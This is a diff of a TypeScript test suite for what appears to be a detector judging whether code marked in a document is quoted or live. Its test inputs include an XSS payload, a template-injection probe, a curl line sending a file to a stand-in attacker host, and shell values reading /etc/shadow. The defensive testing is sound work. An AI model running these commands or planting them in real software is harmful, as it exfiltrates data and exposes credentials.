@@ -149,6 +149,11 @@ describe('an injection behind words', () => {
 /** More than sixty words. */
 const pages = prose.repeat(3)
 
+const shown = '{{ 7 * 7 }}'
+
+const titled = (marks: string): string =>
+  `${pages}\n\nTitle\n${marks}\n\nText::\n\n    ${shown}\n\nThat is all.`
+
 /** How a document marks code besides fences. */
 const MARKED: readonly (readonly [string, (code: string) => string])[] = [
   ['a span', (code) => `See \`${code}\` there.`],
@@ -159,16 +164,29 @@ const MARKED: readonly (readonly [string, (code: string) => string])[] = [
 
 describe('code in a document', () => {
   test.each(MARKED)(
-    '%s quotes what a closed fence quotes, and nothing in a text of a few words',
+    '%s quotes code that stands by itself, and nothing in a text of a few words',
     (_, mark) => {
-      for (const [name, code] of [...MARKUP, ...PROGRAMS]) {
-        if (code.includes('\n') && mark('').includes('`')) continue
+      const isSpan = mark('').includes('`')
+      for (const [name, code] of PROGRAMS) {
+        if (isSpan && (code.includes('\n') || name === 'a line of a shell')) continue
         expect([name, judge('json', pages + mark(code))]).toEqual([name, false])
-        expect([name, judge('json', pages + mark(code), 3)]).toEqual([name, true])
       }
-      expect(judge('json', prose + mark('<button onclick="save()">Save</button>'))).toBe(true)
+      expect(judge('json', pages + mark(shown))).toBe(false)
+      expect(judge('json', pages + mark(shown), 3)).toBe(true)
+      expect(judge('query', pages + mark(shown))).toBe(true)
+      expect(judge('json', prose + mark(shown))).toBe(true)
     },
   )
+
+  test.each(MARKED)('%s quotes no markup, which does there what it does anywhere', (_, mark) => {
+    for (const code of ['<img src=x onerror=alert(1)>', '<button onclick="save()">Save</button>'])
+      expect([code, judge('json', pages + mark(code))]).toEqual([code, true])
+  })
+
+  test('to a shell the backticks of a span are an order', () => {
+    for (const [, mark] of MARKED.slice(0, 2))
+      expect(judge('json', pages + mark('cat access.log; curl -d @a http://evil.example'))).toBe(true)
+  })
 
   test.each(MARKED)('%s quotes nothing that breaks out, nor what does harm as it stands', (_, mark) => {
     for (const [name, code] of INJECTIONS) {
@@ -178,32 +196,30 @@ describe('code in a document', () => {
   })
 
   test('a command line in a string of its own is quoted by a document, and what breaks out of a string is not', () => {
-    const shown = "command: ['sh', '-c', 'echo it runs && sleep 3600']"
-    expect(judge('json', pages + FENCE(shown) + 'That is all.')).toBe(false)
-    expect(judge('json', prose + FENCE(shown) + 'That is all.')).toBe(true)
+    const line = "command: ['sh', '-c', 'echo it runs && sleep 3600']"
+    expect(judge('json', pages + FENCE(line) + 'That is all.')).toBe(false)
+    expect(judge('json', prose + FENCE(line) + 'That is all.')).toBe(true)
     for (const code of ["x = '; sleep 3600; echo '", "x = '&& cat a | sh'", "x = 'a && $(cat /etc/shadow)"])
       expect([code, judge('json', pages + FENCE(code) + 'That is all.')]).toEqual([code, true])
   })
 
   test('an indented block that no text follows quotes nothing, nor does what stands behind an open fence', () => {
-    const [, markup] = MARKUP[1] as readonly [string, string]
-    expect(judge('json', `${pages}\n\n    ${markup}`)).toBe(true)
-    expect(judge('json', `${pages}\n\n\`\`\`\na\n\n    ${markup}\n\nThat is all.`)).toBe(true)
-    expect(judge('json', `${pages}\n\n\`\`\`\na, see \`${markup}\` there.`)).toBe(true)
+    expect(judge('json', `${pages}\n\n    ${shown}`)).toBe(true)
+    expect(judge('json', `${pages}\n\n\`\`\`\na\n\n    ${shown}\n\nThat is all.`)).toBe(true)
+    expect(judge('json', `${pages}\n\n\`\`\`\na, see \`${shown}\` there.`)).toBe(true)
   })
 
   test('tildes below a title of reStructuredText open no fence', () => {
-    const [, markup] = MARKUP[1] as readonly [string, string]
-    const titled = (marks: string) => `${pages}\n\nTitle\n${marks}\n\nText::\n\n    ${markup}\n\nThat is all.`
     expect(judge('json', titled('~~~~~'))).toBe(false)
     expect(judge('json', titled('~~~'))).toBe(true)
   })
 })
 
-const around = (quoted: boolean, fenced: boolean, whole: boolean) => ({
+const around = (quoted: boolean, fenced: boolean, whole: boolean, marked = false) => ({
   reads: () => true,
   quoted: () => quoted,
   fenced: () => fenced,
+  marked: () => marked,
   selfContained: () => whole,
   listed: () => false,
 })
@@ -216,6 +232,15 @@ describe('what a finding counts for', () => {
     ['a fence around what stands by itself', around(true, true, true), 1, false, true],
     ['a fence around what does not', around(true, true, false), 1, false, false],
     ['a fence around what does harm as it stands', around(true, true, true), 1, true, false],
+    ['what a document marks', around(true, false, true, true), 1, false, true],
+    [
+      'what a document marks, and does not stand by itself',
+      around(true, false, false, true),
+      1,
+      false,
+      false,
+    ],
+    ['what a document marks, and does harm as it stands', around(true, false, true, true), 1, true, false],
   ])('%s', (_, text, weight, firm, forgiven) => {
     expect(isForgiven(text, 'shell-chain', weight, 3, firm)).toBe(forgiven)
   })
